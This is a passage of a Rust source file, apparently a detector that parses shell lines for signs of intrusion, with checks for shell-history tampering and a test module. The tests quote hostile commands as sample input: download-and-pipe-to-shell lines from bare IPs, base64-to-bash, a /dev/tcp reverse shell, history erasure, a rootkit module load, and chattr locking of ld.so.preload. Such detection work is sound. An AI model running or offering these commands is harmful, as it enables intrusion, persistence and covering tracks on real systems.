            if let Ok(ip) = text.parse::<std::net::Ipv4Addr>() {
                if !ip.is_unspecified() && text.split('.').all(|p| p.len() <= 3) {
                    out.push(ip.to_string());
                }
            }
        }
        i = end.max(i + 1);
    }
    out
}

fn history_checks(seg: &Segment, out: &mut ShellLine) {
    let words = &seg.words;
    let mut note = |s: &str| push_unique(&mut out.history_tamper, s.to_owned());
    for (i, w) in words.iter().enumerate() {
        let next = words.get(i + 1).map(Vec::as_slice).unwrap_or_default();
        let w = w.as_slice();
        let assignment = w.strip_prefix(b"export ").unwrap_or(w);
        if assignment.starts_with(b"HISTFILE=")
            && (contains(assignment, b"/dev/null") || assignment.len() == 9)
        {
            note("HISTFILE set to /dev/null or empty");
        }
        if (assignment.starts_with(b"HISTSIZE=") || assignment.starts_with(b"HISTFILESIZE="))
            && assignment.ends_with(b"=0")
        {
            note("history size set to 0");
        }
        if w == b"unset" && contains(next, b"HISTFILE") {
            note("unset HISTFILE");
        }
        if basename(w) == b"history" && next.starts_with(b"-") && next.contains(&b'c') {
            note("history -c");
        }
        if w == b"set"
            && next == b"+o"
            && words.get(i + 2).is_some_and(|x| x.as_slice() == b"history")
        {
            note("set +o history");
        }
    }
    let cmd = words
        .iter()
        .find(|w| !is_assignment(w))
        .map(|w| basename(w))
        .unwrap_or(b":");
    let is_history = |a: &Vec<u8>| contains(a, b"_history") || contains(a, b".history");
    if words.iter().skip(1).any(is_history) {
        match cmd {
            b"rm" | b"shred" | b"unlink" | b"truncate" => note("history file removed or truncated"),
            b"ln" if words.iter().any(|a| a.as_slice() == b"/dev/null") => {
                note("history file linked to /dev/null")
            }
            _ => {}
        }
    }
    if seg.redirects.iter().any(is_history)
        && matches!(cmd, b"cat" | b"echo" | b":" | b"true" | b"printf")
    {
        note("history file overwritten");
    }
}

/// The simple commands of a line as `(command name, arguments)`, quotes removed, after assignments and
/// wrappers (`sudo`, `nohup`, `env`, ...): the same cutting [`analyze`] judges, for parsers of one
/// command's arguments ([`super::ssh_command`]).
pub fn simple_commands(text: &[u8]) -> Vec<(Vec<u8>, Vec<Vec<u8>>)> {
    let text = text.get(..super::MAX_LINE_BYTES).unwrap_or(text);
    segments(text)
        .into_iter()
        .filter_map(|seg| {
            let ci = command_index(&seg.words)?;
            let cmd = basename(seg.words.get(ci)?).to_vec();
            let args = seg.words.get(ci + 1..).unwrap_or_default().to_vec();
            Some((cmd, args))
        })
        .collect()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn kinsing_cron_downloads_into_shell_from_bare_ip() {
        let s = analyze(b"wget -q -O - http://195.3.146.118/unk.sh | sh > /dev/null 2>&1");
        assert!(s.download && s.download_to_shell, "{s:?}");
        assert_eq!(s.bare_ips, vec!["195.3.146.118"]);
        assert_eq!(s.urls, vec![b"http://195.3.146.118/unk.sh".to_vec()]);
        assert!(!s.mention_only);
    }

    #[test]
    fn substitution_and_sh_c_forms() {
        assert!(analyze(b"bash -c \"$(curl -fsSL https://x.example/i.sh)\"").download_to_shell);
        assert!(analyze(b"bash <(wget -qO- http://x/y)").download_to_shell);
        assert!(analyze(b"/bin/sh -c 'curl -s http://a/b|bash'").download_to_shell);
        // `sh -s`: commands from stdin, later words are its parameters (rustup's documented install).
        assert!(analyze(b"curl --proto '=https' --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal").download_to_shell);
        assert!(analyze(b"wget -qO- http://x/i | bash -s stable").download_to_shell);
        assert!(!analyze(b"curl -o a https://x/a | bash build.sh").download_to_shell);
        let s = analyze(b"echo Y3VybCBodHRwOi8veC95fHNo | base64 -d | bash");
        assert!(s.base64_decode && s.decode_to_shell && !s.download_to_shell);
        assert!(
            analyze(b"curl -fsSL http://1.2.3.4/x -o /tmp/x && chmod +x /tmp/x && /tmp/x")
                .download_then_exec
        );
    }

    /// Words split as the shell splits them: a quoted or backslash-escaped blank stays inside the word,
    /// an assignment's quoted value is not a command, and a quoted string handed to a shell is split again.
    #[test]
    fn quoting_is_honoured() {
        let ran = |text: &[u8]| -> Vec<Vec<u8>> {
            analyze(text).ran.into_iter().map(|r| r.path).collect()
        };
        assert_eq!(
            ran(b"\"/tmp/.x y/run\" >/dev/null 2>&1"),
            vec![b"/tmp/.x y/run".to_vec()]
        );
        assert_eq!(ran(b"/tmp/.x\\ y/run -q"), vec![b"/tmp/.x y/run".to_vec()]);
        assert_eq!(
            ran(b"cd '/var/tmp/.a b' && ./run"),
            vec![b"/var/tmp/.a b/run".to_vec()]
        );
        assert_eq!(ran(b"MSG=\"a b\" /tmp/k"), vec![b"/tmp/k".to_vec()]);
        assert_eq!(
            ran(b"nohup sh -c \"/tmp/.k/run -o x\" &"),
            vec![b"/tmp/.k/run".to_vec()]
        );
        assert_eq!(
            ran(b"bash -lc '/tmp/.k/run -o x'"),
            vec![b"/tmp/.k/run".to_vec()]
        );
        let s = analyze(b"eval \"curl -s http://a/b -o /tmp/b\"; \"/tmp/b\"");
        assert!(s.download_then_exec, "{s:?}");
        // A quoted `>` is text, not a redirection; a descriptor before one is dropped.
        assert_eq!(
            words_in_order(b"logger \"a > b\" 2>/tmp/err; \"/tmp/.x y/run\" > '/tmp/o p'"),
            vec![
                (b"logger".to_vec(), false),
                (b"a > b".to_vec(), false),
                (b"/tmp/err".to_vec(), true),
                (b"/tmp/.x y/run".to_vec(), false),
                (b"/tmp/o p".to_vec(), true)
            ]
        );
    }

    #[test]
    fn health_check_is_quiet() {
        let s = analyze(b"curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/uuid");
        assert!(
            s.download
                && !s.download_to_shell
                && s.is_quiet(crate::indicators::Indicators::builtin().paths()),
            "{s:?}"
        );
        assert!(analyze(b"cd / && run-parts --report /etc/cron.hourly")
            .is_quiet(crate::indicators::Indicators::builtin().paths()));
        assert!(analyze(b"[ -x /usr/lib/php/sessionclean ] && if [ ! -d /run/systemd/system ]; then /usr/lib/php/sessionclean; fi").is_quiet(crate::indicators::Indicators::builtin().paths()));
    }

    #[test]
    fn cleanup_lines_only_mention() {
        let s = analyze(b"pkill -f kdevtmpfsi; rm -rf /tmp/.X25-unix /tmp/kdevtmpfsi; netstat -anp | grep 195.3.146.118 | awk '{print $7}' | xargs kill -9");
        assert!(s.mention_only, "{s:?}");
        assert!(s.bare_ips.is_empty() && s.ran.is_empty() && !s.download);
        assert!(s.paths.contains(&b"/tmp/kdevtmpfsi".to_vec()));
    }

    #[test]
    fn what_an_interpreter_runs() {
        fn run<'a>(prog: &[u8], argv: &[&'a [u8]]) -> Option<InterpreterRun<'a>> {
            interpreter_run(prog, argv)
        }
        assert_eq!(
            run(b"bash", &[b"bash", b"/var/tmp/.update-logs/update"]),
            Some(InterpreterRun::Script(&b"/var/tmp/.update-logs/update"[..]))
        );
        assert_eq!(
            run(
                b"python3.11",
                &[b"python3", b"-u", b"-W", b"ignore", b"x.py", b"--flag"]
            ),
            Some(InterpreterRun::Script(&b"x.py"[..]))
        );
        assert_eq!(
            run(b"dash", &[b"sh", b"-c", b"cd /x && ./y"]),
            Some(InterpreterRun::Inline(&b"cd /x && ./y"[..]))
        );
        assert_eq!(run(b"python3", &[b"python3", b"-m", b"http.server"]), None);
        assert_eq!(run(b"bash", &[b"-bash"]), None);
        assert_eq!(run(b"sleep", &[b"sleep", b"60"]), None);
        assert_eq!(run(b"kworker", &[b"[kworker/0:1]"]), None);
        assert!(is_interpreter(b"perl5.36") && !is_interpreter(b"xmrig"));
    }

    #[test]
    fn commands_run_in_a_root_of_their_own_are_resolved_under_it() {
        let s = analyze(
            b"pgrep -x kthreadd >/dev/null || chroot /var/tmp/.dog/rootfs /bin/sh /start.sh >/dev/null 2>&1",
        );
        assert_eq!(s.roots, vec![b"/var/tmp/.dog/rootfs".to_vec()]);
        let ran: Vec<&[u8]> = s.ran.iter().map(|r| r.path.as_slice()).collect();
        assert_eq!(
            ran,
            vec![
                &b"/var/tmp/.dog/rootfs/bin/sh"[..],
                &b"/var/tmp/.dog/rootfs/start.sh"[..]
            ]
        );
        let s = analyze(b"unshare -m --root=/srv/c/ /usr/bin/apt-get -qq update");
        assert_eq!(s.roots, vec![b"/srv/c".to_vec()]);
        assert_eq!(s.executed, vec![b"/srv/c/usr/bin/apt-get".to_vec()]);
        // nsenter into PID 1's namespaces runs the command on the host: no root of its own.
        let s = analyze(b"nsenter -t 1 -m -u -i -n -p -- sh -c '/tmp/.x/run'");
        assert!(s.roots.is_empty());
        assert_eq!(s.executed, vec![b"/tmp/.x/run".to_vec()]);
        let s = analyze(b"chroot --userspec=1000:1000 /srv/jail ./tool");
        assert_eq!(s.roots, vec![b"/srv/jail".to_vec()]);
        assert_eq!(s.executed, vec![b"./tool".to_vec()]);
    }

    #[test]
    fn temp_and_hidden_execution() {
        let ind = crate::indicators::Indicators::builtin();
        let c = ind.paths();
        let s = analyze(b"~/.configrc/a/upd>/dev/null 2>&1");
        assert_eq!(s.hidden_exec(c), vec![&b"~/.configrc/a/upd"[..]]);
        let s = analyze(b"cd /tmp/.X25-unix/.rsync/c && nohup ./aptitude -t 150 >/dev/null &");
        assert_eq!(
            s.temp_exec(c),
            vec![&b"/tmp/.X25-unix/.rsync/c/aptitude"[..]]
        );
        assert_eq!(s.hidden_exec(c), s.temp_exec(c));
        let s = analyze(b"sh /var/tmp/.x/run.sh");
        assert_eq!(s.temp_exec(c), vec![&b"/var/tmp/.x/run.sh"[..]]);
        assert!(analyze(b"/usr/bin/.update startup").hidden_exec(c).len() == 1);
        assert!(analyze(b"if [ -f ~/.bash_aliases ]; then . ~/.bash_aliases; fi").is_quiet(c));
        assert!(analyze(b". \"$HOME/.cargo/env\"").is_quiet(c));
        assert_eq!(analyze(b". /tmp/.x/env").temp_exec(c).len(), 1);
    }

    #[test]
    fn history_tampering() {
        for line in [
            &b"export HISTFILE=/dev/null"[..],
            b"unset HISTFILE",
            b"history -c",
            b"HISTSIZE=0",
            b"rm -rf ~/.bash_history",
            b"ln -sf /dev/null /root/.bash_history",
            b"cat /dev/null > ~/.bash_history",
        ] {
            assert!(
                !analyze(line).history_tamper.is_empty(),
                "{}",
                String::from_utf8_lossy(line)
            );
        }
        assert!(analyze(b"echo $HISTFILE").history_tamper.is_empty());
    }

    #[test]
    fn ips_are_dotted_quads_only() {
        assert_eq!(ipv4s(b"http://10.1.2.3:8080/x"), vec!["10.1.2.3"]);
        assert_eq!(ipv4s(b"/dev/tcp/127.66.0.1/3333"), vec!["127.66.0.1"]);
        assert!(ipv4s(b"v1.2.3.4.5").is_empty());
        assert!(ipv4s(b"999.1.1.1").is_empty());
        assert!(ipv4s(b"0.0.0.0").is_empty());
        let s = analyze(b"bash -i >& /dev/tcp/127.66.0.1/4444 0>&1");
        assert!(s.dev_tcp);
    }

    #[test]
    fn listen_addresses_are_not_reached() {
        let s = analyze(b"/opt/api/bin/api-server --listen 127.0.0.1:8080");
        assert!(s.bare_ips.is_empty(), "{s:?}");
        assert_eq!(s.listen_ips, vec!["127.0.0.1"]);
        let s = analyze(b"python3 -m http.server --bind=10.0.0.5 8000");
        assert!(
            s.bare_ips.is_empty() && s.listen_ips == vec!["10.0.0.5"],
            "{s:?}"
        );
        let s = analyze(b"/tmp/x --listen 0.0.0.0:9 -o 127.66.7.1:3333");
        assert_eq!(s.bare_ips, vec!["127.66.7.1"]);
        // A flag without a value does not swallow the next word's address.
        let s = analyze(b"socat --listen=  10.1.1.1:4444");
        assert_eq!(s.bare_ips, vec!["10.1.1.1"], "{s:?}");
    }

    #[test]
    fn a_copy_that_is_run_runs_its_source() {
        let s = analyze(b"cp -f -r -- /usr/bin/bprofr /tmp/dbused 2>/dev/null && /tmp/dbused -c >/dev/null 2>&1 && rm -rf -- /tmp/dbused");
        assert!(s.executed.contains(&b"/usr/bin/bprofr".to_vec()), "{s:?}");
        assert!(s.executed.contains(&b"/tmp/dbused".to_vec()));
        let s = analyze(b"cp /usr/bin/x /tmp/ && /tmp/x");
        assert!(s.executed.contains(&b"/usr/bin/x".to_vec()), "{s:?}");
        // A copy that is not run is only a mention.
        let s = analyze(b"cp /usr/bin/bprofr /tmp/dbused");
        assert!(s.executed.is_empty(), "{s:?}");
    }

    #[test]
    fn module_loads_and_chattr() {
        let s = analyze(b"insmod /tmp/.x/diamorphine.ko; chattr +ia /etc/ld.so.preload");
        assert_eq!(s.module_loads, vec![b"/tmp/.x/diamorphine.ko".to_vec()]);
        assert_eq!(s.chattr_lock, vec![b"/etc/ld.so.preload".to_vec()]);
    }
}
